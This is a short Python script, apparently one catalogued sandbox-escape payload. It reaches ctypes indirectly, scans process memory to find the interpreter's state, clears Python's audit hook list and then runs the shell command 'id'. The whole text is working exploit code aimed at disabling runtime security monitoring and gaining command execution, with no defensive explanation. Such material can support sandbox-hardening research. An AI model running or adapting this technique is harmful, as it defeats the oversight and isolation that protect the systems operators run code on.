# family: memory (ctypes inherited from PID 1: a Union of pointers, no event, clears the hook list)   goal: id
import random
os = random._os
sys = os.sys
ctypes = sys.modules.get('ctypes') or __import__('ctypes')
class U(ctypes.Union):
    _fields_ = [("a", ctypes.c_void_p), ("p", ctypes.POINTER(ctypes.c_uint64)),
                ("c", ctypes.POINTER(ctypes.c_char * 4096)), ("o", ctypes.py_object)]
u = U()
def chunk(addr):
    u.a = addr
    return bytes(u.c.contents)
def rd(addr):
    u.a = addr
    return u.p[0]
needle = id(sys.modules).to_bytes(8, 'little')
base = id(int) & ~4095
field = None
for page in range(0, 4096):
    b = chunk(base + page * 4096)
    i = b.find(needle)
    while i >= 0:
        a = base + page * 4096 + i
        if i % 8 == 0 and rd(a + 16) == id(sys.__dict__):
            field = a
            break
        i = b.find(needle, i + 1)
    if field:
        break
u.a = rd(field + 2664)          # PyInterpreterState.audit_hooks (3.11 layout)
hooks = u.o if u.a else []  # plain python3 has no hook list
print("audit hooks before:", hooks)
hooks.clear()
print("audit hooks after:", hooks)
sys.stdout.flush(); os.system("id")
